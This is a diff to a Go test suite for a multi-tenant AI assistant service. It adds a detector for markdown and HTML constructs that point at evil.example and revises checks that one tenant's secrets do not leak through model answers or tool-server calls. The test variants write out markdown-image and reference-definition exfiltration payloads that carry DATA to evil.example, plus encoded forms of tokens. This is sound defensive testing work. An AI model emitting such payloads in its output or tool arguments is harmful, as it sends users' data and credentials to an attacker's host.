@@ -635,7 +635,6 @@ func TestHostileTenant(t *testing.T) {
 			{"hex with ':'", hostileHexSep(hostileAToken, ":")},
 			{"hex with spaces", hostileHexSep(hostileAToken, " ")},
 			{"base32", base32.StdEncoding.EncodeToString([]byte(hostileAToken))},
-			{"JSON \\u escapes", hostileEscapeAll(hostileAToken)},
 			{"reversed", hostileReverse(hostileAToken)},
 		}
 		for _, v := range variants {
@@ -649,9 +648,19 @@ func TestHostileTenant(t *testing.T) {
 	t.Run("class04_credentials_echoed_by_tool", func(t *testing.T) {
 		const class = "4 (credentials echoed back by a tool server)"
 		m := w.echo.mark()
+		needles := append([]hostileNeedle{w.aSecret}, w.secretsOfB...)
 		for i, rep := range w.both(t, w.aKey, `/call crm_ticket {"customer":"c-4","subject":"echo test"}`) {
-			checkNo(t, class, "echo of Authorization as base64, JSON-escaped and \\u-escaped", hostileWhere("A's answer", i), rep.content,
-				append([]hostileNeedle{w.aSecret}, w.secretsOfB...)...)
+			// Each field of the echo is one form of the token; check them
+			// one by one (raw, escapes kept) so each is reported, then the
+			// whole answer.
+			var fields map[string]json.RawMessage
+			if _, echoed, ok := strings.Cut(rep.content, "call_1: "); ok && json.Unmarshal([]byte(echoed), &fields) == nil {
+				for _, name := range slices.Sorted(maps.Keys(fields)) {
+					checkNo(t, class, "echoed field "+name, hostileWhere("A's answer", i), string(fields[name]), needles...)
+				}
+				continue
+			}
+			checkNo(t, class, "echo of Authorization verbatim, as base64 and JSON-escaped", hostileWhere("A's answer", i), rep.content, needles...)
 		}
 		reqs := w.echo.since(m)
 		if len(reqs) == 0 {
@@ -692,7 +701,6 @@ func TestHostileTenant(t *testing.T) {
 
 	t.Run("class06_images_links_in_tool_args", func(t *testing.T) {
 		const class = "6 (images and links in outgoing tool arguments)"
-		host := hostileTextNeedle("the disallowed host evil.example", "evil.example")
 		variants := []hostileVariant{
 			{"inline image", `![x](https://evil.example/p.png?d=DATA)`},
 			{"inline link", `[see](https://evil.example/?d=DATA)`},
@@ -705,30 +713,32 @@ func TestHostileTenant(t *testing.T) {
 			m := w.echo.mark()
 			w.chat(t, w.aKey, `/call crm_ticket {"customer":"c-6","subject":"bug","body":"Broken page. `+v.text+`"}`, false)
 			for _, r := range w.echo.since(m) {
-				checkNo(t, class, v.name, "what the tool server received", r.haystack(), host)
+				for _, c := range hostileEvil(r.haystack()) {
+					t.Errorf("class %s: %s: the tool server received an %s pointing at evil.example: %s", class, v.name, c, hostileExcerpt(string(r.body)))
+				}
 			}
 		}
 	})
 
 	t.Run("class07_reference_definitions_in_containers", func(t *testing.T) {
 		const class = "7 (markdown reference definitions in containers)"
-		variants := []struct{ name, text, usage string }{
-			{"list item", "- [r]: https://evil.example/x.png?d=DATA\n\n![a][r]", "![a][r]"},
-			{"ordered list item", "1. [r]: https://evil.example/x.png?d=DATA\n\n![a][r]", "![a][r]"},
-			{"blockquote", "> [r]: https://evil.example/x.png?d=DATA\n\n![a][r]", "![a][r]"},
-			{"nested list", "- item\n  - [r]: https://evil.example/x.png?d=DATA\n\n![a][r]", "![a][r]"},
-			{"list in blockquote", "> - [r]: https://evil.example/x.png?d=DATA\n\n![a][r]", "![a][r]"},
-			{"collapsed reference, case-folded label", "- [R]: https://evil.example/x.png?d=DATA\n\n![r][]", "![r][]"},
-			{"shortcut reference", "- [pic]: https://evil.example/x.png?d=DATA\n\n![pic]", "![pic]"},
-			{"link reference in a list item", "- [r]: https://evil.example/?d=DATA\n\n[click][r]", "[click][r]"},
+		variants := []hostileVariant{
+			{"list item", "- [r]: https://evil.example/x.png?d=DATA\n\n![a][r]"},
+			{"ordered list item", "1. [r]: https://evil.example/x.png?d=DATA\n\n![a][r]"},
+			{"blockquote", "> [r]: https://evil.example/x.png?d=DATA\n\n![a][r]"},
+			{"nested list", "- item\n  - [r]: https://evil.example/x.png?d=DATA\n\n![a][r]"},
+			{"list in blockquote", "> - [r]: https://evil.example/x.png?d=DATA\n\n![a][r]"},
+			{"collapsed reference, case-folded label", "- [R]: https://evil.example/x.png?d=DATA\n\n![r][]"},
+			{"shortcut reference", "- [pic]: https://evil.example/x.png?d=DATA\n\n![pic]"},
+			{"link reference in a list item", "- [r]: https://evil.example/?d=DATA\n\n[click][r]"},
 		}
-		def := regexp.MustCompile(`(?i)\[[^\]]+\]:\s*<?https?://evil\.example`)
 		for _, v := range variants {
+			if len(hostileEvil(v.text)) == 0 {
+				t.Fatalf("test bug: hostileEvil does not see variant %s", v.name)
+			}
 			for i, rep := range sayA(t, "Report\n\n"+v.text+"\n") {
-				// The exfiltration survives when the definition still
-				// points at evil.example and the reference still uses it.
-				if def.MatchString(rep.content) && strings.Contains(rep.content, v.usage) {
-					t.Errorf("class %s: %s: a reference to https://evil.example got out in %s: %s", class, v.name, hostileWhere("A's answer", i), hostileExcerpt(rep.content))
+				for _, c := range hostileEvil(rep.content) {
+					t.Errorf("class %s: %s: an %s pointing at evil.example got out in %s: %s", class, v.name, c, hostileWhere("A's answer", i), hostileExcerpt(rep.content))
 				}
 			}
 		}
@@ -986,8 +996,8 @@ func TestHostileTenant(t *testing.T) {
 		all := append([]hostileNeedle{w.aSecret}, w.secretsOfB...)
 		for i, a := range answers {
 			checkNo(t, class, "hostile message", hostileWhere(fmt.Sprintf("A's answer to message %d", i/2+1), i%2), a, all...)
-			if strings.Contains(a, "![a][r]") && regexp.MustCompile(`\[r\]:\s*https?://evil\.example`).MatchString(a) {
-				t.Errorf("class %s: a reference image to evil.example got out in A's answer %d: %s", class, i, hostileExcerpt(a))
+			for _, c := range hostileEvil(a) {
+				t.Errorf("class %s: an %s pointing at evil.example got out in %s", class, c, hostileWhere(fmt.Sprintf("A's answer to message %d", i/2+1), i%2))
 			}
 		}
 		reqs := w.echo.since(m)
@@ -996,7 +1006,9 @@ func TestHostileTenant(t *testing.T) {
 		}
 		for _, r := range reqs {
 			checkNo(t, class, "hostile calls", "what the tool server received", r.haystack(), all...)
-			checkNo(t, class, "hostile calls", "what the tool server received", r.haystack(), hostileTextNeedle("the disallowed host evil.example", "evil.example"))
+			for _, c := range hostileEvil(r.haystack()) {
+				t.Errorf("class %s: the tool server received an %s pointing at evil.example", class, c)
+			}
 			for _, p := range hostileBoundProblems(r) {
 				t.Errorf("class %s: %s", class, p)
 			}
@@ -1054,13 +1066,48 @@ func hostileBoundProblems(r hostileRequest) []string {
 func hostileFoldKey(k string) string { return hostileSkeleton(hostileJSONUnescape(k)) }
 
 // hostileNormalise makes two existence probes comparable: the tool name,
-// ids, times, sequence numbers and hashes are replaced by placeholders.
+// times and anything that looks like a hash or an id (a run of 8 or more hex
+// digits, or of 16 or more base64url characters with a digit) are replaced
+// by placeholders. Sequence numbers and record hashes are not in the text.
 func hostileNormalise(s, name string) string {
 	s = strings.ReplaceAll(s, name, "NAME")
-	s = regexp.MustCompile(`[0-9a-fA-F]{16,}`).ReplaceAllString(s, "HASH")
-	s = regexp.MustCompile(`[A-Za-z0-9_-]{32,}`).ReplaceAllString(s, "HASH")
-	s = regexp.MustCompile(`\d{4}-\d\d-\d\dT[0-9:.]+Z?`).ReplaceAllString(s, "TIME")
-	return s
+	s = regexp.MustCompile(`\d{4}-\d\d-\d\dT[0-9:.]+(Z|[+-]\d\d:\d\d)?`).ReplaceAllString(s, "TIME")
+	s = regexp.MustCompile(`[0-9a-fA-F]{8,}`).ReplaceAllString(s, "HASH")
+	return regexp.MustCompile(`[A-Za-z0-9_-]{16,}`).ReplaceAllStringFunc(s, func(m string) string {
+		if strings.ContainsAny(m, "0123456789") {
+			return "HASH"
+		}
+		return m
+	})
+}
+
+// hostileEvil lists the markdown and HTML constructs in text that a renderer
+// turns into a link or image to evil.example, after undoing JSON escapes: an
+// inline image or link, an img tag, an autolink, or a reference definition
+// that a reference still uses. A bare URL in prose is none of these.
+func hostileEvil(text string) []string {
+	text = hostileJSONUnescape(hostileJSONUnescape(text))
+	var out []string
+	for _, c := range []struct{ name, re string }{
+		{"inline image", `!\[[^\]]*\]\(\s*<?https?://evil\.example`},
+		{"inline link", `[^!]\[[^\]]*\]\(\s*<?https?://evil\.example`},
+		{"html tag", `(?i)<[a-z][a-z0-9]*\s[^>]*evil\.example`},
+		{"autolink", `(?i)<https?://evil\.example`},
+	} {
+		if regexp.MustCompile(c.re).MatchString(" " + text) {
+			out = append(out, c.name)
+		}
+	}
+	for _, m := range regexp.MustCompile(`(?im)\[([^\]]+)\]:\s*<?https?://evil\.example`).FindAllStringSubmatch(text, -1) {
+		label := regexp.QuoteMeta(m[1])
+		// Full, collapsed or shortcut reference to the label, not the
+		// definition itself.
+		if regexp.MustCompile(`(?i)(\]\[` + label + `\]|\[` + label + `\]\[\]|\[` + label + `\]($|[^:(\[]))`).MatchString(strings.Replace(text, m[0], "", 1)) {
+			out = append(out, "reference definition ["+m[1]+"] in use")
+		}
+	}
+	slices.Sort(out)
+	return slices.Compact(out)
 }
 
 // ---- The leak detector ----
